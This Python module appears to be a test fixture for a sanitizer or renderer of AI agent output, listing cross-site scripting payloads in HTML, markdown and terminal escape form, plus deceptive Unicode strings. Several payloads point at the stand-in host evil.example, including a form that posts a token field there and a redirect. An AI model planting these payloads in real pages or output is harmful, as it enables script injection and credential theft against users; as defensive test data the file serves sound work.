"""What an agent, or a page that it read, might say to take the reader's browser over.

Rule: each that worked would say so: it calls ``alert``, sets ``window.hacked``, or asks for something at evil.example.
"""

from __future__ import annotations

SAY = "alert('hacked')"
SET = "window.hacked=1"
ELSEWHERE = "https://evil.example"

MARKUP = (
    f"<script>{SET}</script>",
    f"<img src=x onerror=\"{SET}\">",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<svg onload=\"{SET}\"><animate onbegin=\"{SET}\" attributeName=x dur=1s></svg>",
    f"<svg><script>{SET}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={SET}&gt;\">",
    f"<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe><iframe src={ELSEWHERE}></iframe>",
    f"<object data=\"{ELSEWHERE}\"></object><embed src=\"{ELSEWHERE}\">",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/b.css'; body {{ background: url({ELSEWHERE}/c) }}</style>",
    f"<div style=\"background:url({ELSEWHERE}/d);position:fixed;inset:0;z-index:9999\">cover</div>",
    f"<form action={ELSEWHERE}><input name=token><button>Go</button></form>",
    f"<details open ontoggle=\"{SET}\">x</details><input autofocus onfocus=\"{SET}\"><video><source onerror=\"{SET}\"></video>",
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content=\"0;url={ELSEWHERE}\">",
    f"<a href=\"javascript:{SET}\">a link</a><a href=\"&#106;avascript&colon;{SET}\">another</a>",
    f"<a href=\" java\tscript:{SET}\">a third</a>",
    f"<a href=\"data:text/html,<script>{SET}</script>\">data</a><a href=\"vbscript:{SET}\">old</a>",
    f"<noscript><p title=\"</noscript><img src=x onerror={SET}>\">",
    f"<template><img src=x onerror={SET}></template><xmp><img src=x onerror={SET}></xmp>",
    "<img name=getElementById><form name=querySelector></form><a id=hacked></a><input name=body>",
    f"]]><img src=x onerror={SET}>--><img src=x onerror={SET}>",
)

MARKDOWN = (
    f"[click me](javascript:{SET})",
    f"[click](<javascript:{SET}>) [x]: javascript:{SET}",
    f"![picture]({ELSEWHERE}/picture.png)",
    f"![x](x\"onerror=\"{SET})",
    f"[a](https://a.example\"onmouseover=\"{SET})",
    f"<javascript:{SET}>",
    f"```html\"><img src=x onerror={SET}>\n<script>{SET}</script>\n```",
    f"`<img src=x onerror={SET}>` and ~~<b onclick={SET}>x</b>~~",
    f"| a | b |\n|---|---|\n| <img src=x onerror={SET}> | {SAY} |",
    f"[^1]: <script>{SET}</script>\n\n# <img src=x onerror={SET}>",
    f"https://evil.example/\"onmouseover=\"{SET}",
)

TERMINAL = (
    f"\x1b]8;;javascript:{SET}\x1b\\a link\x1b]8;;\x1b\\ \x1b]0;<img src=x onerror={SET}>\x07",
    f"\x1b[31m<img src=x onerror={SET}>\x1b[0m\x1b[38;2;1;2;3\"onload={SET}m",
    "\x1b]52;c;aGFja2Vk\x07\x1b[2J\x1b[H\x9b31mtext\x00\x08\x7f",
)

LOOKS = (
    "admin\u202egnp.exe",  # turned around
    "pay\u200bpal \u2066hidden\u2069",  # invisible
    "𝕏" * 200 + "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘",  # tall
)

ALL = (*MARKUP, *MARKDOWN, *TERMINAL, *LOOKS)

WHOLE = "\n\n".join(ALL)
"""Everything in one text."""
